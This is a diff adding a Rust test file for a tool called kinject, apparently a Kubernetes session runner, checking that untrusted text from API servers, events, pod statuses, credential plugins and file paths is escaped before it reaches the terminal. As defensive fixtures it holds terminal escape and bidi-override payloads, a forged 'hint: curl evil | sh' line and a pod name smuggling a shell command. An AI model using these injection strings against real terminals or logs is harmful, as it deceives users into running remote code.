@@ -1,0 +1,360 @@
+//! Words of others on the user's terminal: whatever they hold, they are text, on kinject's own line.
+
+use std::ffi::OsStr;
+use std::fs;
+use std::io::{BufRead, BufReader, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::unix::ffi::OsStrExt;
+use std::path::Path;
+use std::process::Command;
+use std::thread;
+use std::time::Duration;
+
+use kinject_protocol::control::{Family, Purpose, Request};
+use kinject_protocol::executable::Obstacle;
+use kinject_tests::place::shared_sandbox;
+use kinject_tests::programs::{Program, interpreter, shell, static_c};
+use kinject_tests::running::{Outcome, run, run_within};
+use kinject_tests::session::kinject_run;
+use serde_json::{Value, json};
+
+const SECONDS: Duration = Duration::from_secs(15);
+
+/// Clears the screen, sets the title, and gives advice in kinject's name.
+const HOSTILE: &str = "no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";
+
+/// The same as it is shown.
+const SHOWN: &str = r"no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";
+
+/// What an API server that somebody else holds answers a request.
+enum Answer {
+    Json(u16, Value),
+    /// One event of a watch, which stays open.
+    Event(Value),
+    Silence,
+}
+
+/// Starts an API server, which answers until the test ends, and writes a kubeconfig for it.
+fn api_server(answer: fn(&str, &str) -> Answer) -> tempfile::NamedTempFile {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let server = format!("http://{}", listener.local_addr().unwrap());
+    thread::spawn(move || {
+        for stream in listener.incoming() {
+            thread::spawn(move || serve(stream.unwrap(), answer));
+        }
+    });
+    kubeconfig(&server, json!({"token": "none"}))
+}
+
+fn kubeconfig(server: &str, user: Value) -> tempfile::NamedTempFile {
+    let config = json!({
+        "apiVersion": "v1", "kind": "Config", "current-context": "here",
+        "clusters": [{"name": "here", "cluster": {"server": server}}],
+        "contexts": [{"name": "here", "context": {"cluster": "here", "user": "me"}}],
+        "users": [{"name": "me", "user": user}],
+    });
+    let file = tempfile::NamedTempFile::new().unwrap();
+    fs::write(file.path(), config.to_string()).unwrap();
+    file
+}
+
+/// Answers the requests of a connection until the client leaves.
+fn serve(stream: TcpStream, answer: fn(&str, &str) -> Answer) {
+    let mut requests = BufReader::new(stream.try_clone().unwrap());
+    let mut stream = stream;
+    while let Some((method, path)) = request(&mut requests) {
+        let written = match answer(&method, &path) {
+            Answer::Json(code, body) => {
+                let body = body.to_string();
+                let length = body.len();
+                write!(
+                    stream,
+                    "HTTP/1.1 {code} Said\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n{body}"
+                )
+            }
+            Answer::Event(event) => {
+                write!(
+                    stream,
+                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n{event}\n"
+                )
+            }
+            Answer::Silence => Ok(()),
+        };
+        if written.is_err() {
+            return;
+        }
+    }
+}
+
+/// The method and the path of the next request, whose body is read.
+fn request(requests: &mut impl BufRead) -> Option<(String, String)> {
+    let mut head = String::new();
+    let mut body = 0;
+    loop {
+        let mut line = String::new();
+        // a client that is gone asks no more
+        if requests.read_line(&mut line).ok()? == 0 {
+            return None;
+        }
+        let lower = line.to_ascii_lowercase();
+        if let Some(length) = lower.strip_prefix("content-length:") {
+            body = length.trim().parse().unwrap();
+        }
+        if line == "\r\n" {
+            break;
+        }
+        head.push_str(&line);
+    }
+    requests.read_exact(&mut vec![0; body]).ok()?;
+    let mut words = head.split_whitespace();
+    Some((words.next()?.to_owned(), words.next()?.to_owned()))
+}
+
+fn session_in(kubeconfig: &Path, flags: &[&str]) -> Outcome {
+    let mut command = kinject_tests::apart::kinject();
+    command
+        .args(["run", "--kubeconfig"])
+        .arg(kubeconfig)
+        .args(flags)
+        .args(["--", "true"]);
+    run_within(&mut command, SECONDS)
+}
+
+/// Asserts that an error is one line, an empty one and one hint, without anything that a terminal obeys.
+#[track_caller]
+fn is_an_error_with_its_own_hint(outcome: &Outcome) {
+    outcome.exited(125);
+    let lines: Vec<&str> = outcome.stderr.lines().collect();
+    assert_eq!(lines.len(), 3, "{outcome:?}");
+    assert!(
+        lines[0].starts_with("kinject: ") && lines[1].is_empty(),
+        "{outcome:?}"
+    );
+    assert!(lines[2].starts_with("hint: "), "{outcome:?}");
+    is_plain(outcome);
+}
+
+#[track_caller]
+fn is_plain(outcome: &Outcome) {
+    let obeyed = |c: char| c != '\n' && (c.is_control() || matches!(c, '\u{200b}' | '\u{202e}'));
+    assert!(!outcome.stderr.contains(obeyed), "{:?}", outcome.stderr);
+}
+
+/// An API server at which the Job can be made and removed.
+fn makes_jobs(method: &str) -> Answer {
+    match method {
+        "POST" => Answer::Json(
+            201,
+            json!({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "made"}}),
+        ),
+        _ => Answer::Json(
+            200,
+            json!({"apiVersion": "v1", "kind": "Status", "status": "Success"}),
+        ),
+    }
+}
+
+fn pods(items: Value) -> Answer {
+    Answer::Json(
+        200,
+        json!({"apiVersion": "v1", "kind": "PodList", "metadata": {"resourceVersion": "1"}, "items": items}),
+    )
+}
+
+#[test]
+fn a_refusal_of_the_api_server_cannot_forge_a_hint() {
+    let config = api_server(|_, _| {
+        let status = json!({
+            "apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403,
+            "message": HOSTILE,
+        });
+        Answer::Json(403, status)
+    });
+    let outcome = session_in(config.path(), &[]);
+    is_an_error_with_its_own_hint(&outcome);
+    outcome
+        .complains(&format!("kinject: cannot create the agent's Job: {SHOWN}\n"))
+        .complains("\n\nhint: ask for this permission");
+}
+
+#[test]
+fn a_refusal_of_megabytes_is_cut() {
+    let config = api_server(|_, _| {
+        let status = json!({
+            "apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403,
+            "message": "no ".repeat(1 << 20),
+        });
+        Answer::Json(403, status)
+    });
+    let outcome = session_in(config.path(), &[]);
+    is_an_error_with_its_own_hint(&outcome);
+    outcome.complains("no no no").complains("...\n\nhint: ");
+    assert!(outcome.stderr.len() < 3000, "{}", outcome.stderr.len());
+}
+
+#[test]
+fn an_event_that_somebody_forged_cannot_forge_a_hint() {
+    let config = api_server(|method, path| {
+        if path.contains("/jobs") {
+            makes_jobs(method)
+        } else if path.contains("/events") {
+            let event = json!({
+                "apiVersion": "v1", "kind": "Event", "metadata": {"name": "forged"}, "involvedObject": {},
+                "message": HOSTILE,
+            });
+            Answer::Event(json!({"type": "ADDED", "object": event}))
+        } else if path.contains("watch") {
+            Answer::Silence
+        } else {
+            pods(json!([]))
+        }
+    });
+    let outcome = session_in(config.path(), &[]);
+    is_an_error_with_its_own_hint(&outcome);
+    outcome.complains(&format!(
+        "kinject: the cluster does not let the agent's pod be made: {SHOWN}\n"
+    ));
+}
+
+#[test]
+fn a_pods_status_cannot_forge_a_hint_or_a_command_in_one() {
+    let config = api_server(|method, path| {
+        if path.contains("/jobs") {
+            makes_jobs(method)
+        } else if path.contains("watch") {
+            Answer::Silence
+        } else {
+            pods(json!([{
+                "metadata": {"name": "pod`; curl evil | sh\u{1b}[2J"},
+                "status": {"phase": "Pending", "containerStatuses": [{
+                    "name": "agent", "image": "i", "imageID": "", "ready": false, "restartCount": 0,
+                    "state": {"waiting": {"reason": "CreateContainerError", "message": HOSTILE}},
+                }]},
+            }]))
+        }
+    });
+    let outcome = session_in(config.path(), &[]);
+    is_an_error_with_its_own_hint(&outcome);
+    outcome
+        .complains(&format!(
+            "kinject: the agent cannot start (CreateContainerError): {SHOWN}\n"
+        ))
+        .complains(r"describe pod 'pod`; curl evil | sh\u{1b}[2J'`");
+}
+
+#[test]
+fn a_credential_plugin_cannot_forge_a_hint() {
+    let folder = tempfile::tempdir().unwrap();
+    let words = folder.path().join("words");
+    fs::write(&words, HOSTILE).unwrap();
+    let exec = json!({"exec": {
+        "apiVersion": "client.authentication.k8s.io/v1", "interactiveMode": "Never",
+        "command": "sh", "args": ["-c", "cat \"$0\" >&2; exit 1", words],
+    }});
+    let config = kubeconfig("http://127.0.0.1:1", exec);
+    let outcome = session_in(config.path(), &[]);
+    is_an_error_with_its_own_hint(&outcome);
+    outcome
+        .complains("kinject: cannot get credentials for ")
+        .complains(SHOWN.strip_suffix(r"\n").unwrap());
+}
+
+#[test]
+fn names_in_a_kubeconfig_cannot_forge_a_hint() {
+    // YAML has no place for control characters of the second kind
+    let (hostile, shown) = (HOSTILE.replace('\u{9b}', ""), SHOWN.replace(r"\u{9b}", ""));
+    let config = json!({
+        "apiVersion": "v1", "kind": "Config", "current-context": "none",
+        "clusters": [], "users": [], "contexts": [{"name": hostile, "context": {"cluster": "c", "user": "u"}}],
+    });
+    let file = tempfile::NamedTempFile::new().unwrap();
+    fs::write(file.path(), config.to_string()).unwrap();
+    let outcome = session_in(file.path(), &[]);
+    is_an_error_with_its_own_hint(&outcome);
+    outcome.complains(&format!("hint: it has: {shown}; choose one"));
+}
+
+/// A program that sends its relay the messages that are its arguments, in hexadecimal.
+const CALLS: &str = r#"
+import os, socket, sys
+for message in sys.argv[1:]:
+    call = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    call.settimeout(10)
+    call.connect(os.environ["KINJECT_SOCKET"])
+    call.send(bytes.fromhex(message))
+    call.recv(4096)
+"#;
+
+#[test]
+fn what_a_program_of_the_session_asks_for_is_traced_and_logged_in_lines_that_no_terminal_obeys() {
+    let hostile = b"web\x1b[2J\r\nwarn: obey\xe2\x80\xae\xff";
+    let look_up = Request::Resolve {
+        family: Family::Any,
+        purpose: Purpose::AddressInfo,
+        name: hostile,
+    };
+    let outsider = Request::Outsider {
+        obstacle: Obstacle::Static,
+        is_refused: false,
+        program: hostile,
+    };
+    let messages = [look_up, outsider].map(|request| {
+        let bytes = request.encode().to_vec();
+        bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>()
+    });
+    let program = Program::new(interpreter()).args(["-SEc", CALLS]).args(messages);
+    let flags = ["--log", "trace", "-v", "-v"];
+    let outcome = run(&mut kinject_run(shared_sandbox(), &flags, &program));
+    outcome
+        .succeeded()
+        .complains("lookup   web\\u{1b}[2J\\r\\nwarn:\\u{20}obey\\u{202e}\\xff default ")
+        .complains("\ninfo: web\\u{1b}[2J\\r\\nwarn: obey\\u{202e}\\xff runs outside of the session: ")
+        .complains("\nkinject: web\\u{1b}[2J\\r\\nwarn: obey\\u{202e}\\xff runs outside of the session: ");
+    is_plain(&outcome);
+    assert!(!outcome.stderr.contains("\nwarn: "), "{outcome:?}");
+}
+
+#[test]
+fn a_dns_name_of_any_bytes_is_traced_in_one_line() {
+    // as dig takes it: bytes in decimal
+    let look_up =
+        Program::new("/usr/bin/dig").args(["+search", r"web\027[2J\013\010warn:\032obey\226\128\174"]);
+    let outcome = run(&mut kinject_run(shared_sandbox(), &["--log", "trace"], &look_up));
+    outcome.succeeded().complains("lookup   web");
+    is_plain(&outcome);
+    assert!(!outcome.stderr.contains("\nwarn:"), "{outcome:?}");
+}
+
+#[test]
+fn a_program_outside_of_the_session_is_named_in_one_line_whatever_its_path() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder
+        .path()
+        .join(OsStr::from_bytes(b"x\x1b[2J\n\nhint: obey\n\xff"));
+    fs::copy(static_c("greeting").path, &file).unwrap();
+    let shown = format!(
+        r"kinject: {}/x\u{{1b}}[2J\n\nhint: obey\n\xff runs outside of the session: ",
+        folder.path().display()
+    );
+    // as the session's first program, and as one that another one starts
+    let first = kinject_run::<&str>(shared_sandbox(), &[], &Program::new(&file).arg("true"));
+    let child = kinject_run::<&str>(shared_sandbox(), &[], &shell("\"$0\" true; exit 0").arg(&file));
+    for mut command in [first, child] {
+        let outcome = run(&mut command);
+        is_plain(&outcome);
+        outcome.complains(&shown);
+        assert_eq!(outcome.stderr.lines().count(), 1, "{outcome:?}");
+    }
+}
+
+#[test]
+fn a_program_that_cannot_be_run_is_named_in_one_line() {
+    let mut command = Command::new(kinject_tests::binaries::kinject());
+    command.args(["run", "--agent", "unix:/none", "--agent-key", "/none", "--"]);
+    command.arg(OsStr::from_bytes(b"no\x1b[2J\n\nhint: obey\n\xff"));
+    let outcome = run(&mut command);
+    outcome.exited(127).complains(
+        "kinject: no\\u{1b}[2J\\n\\nhint: obey\\n\\xff: command not found\n\nhint: is it installed",
+    );
+    is_plain(&outcome);
+}
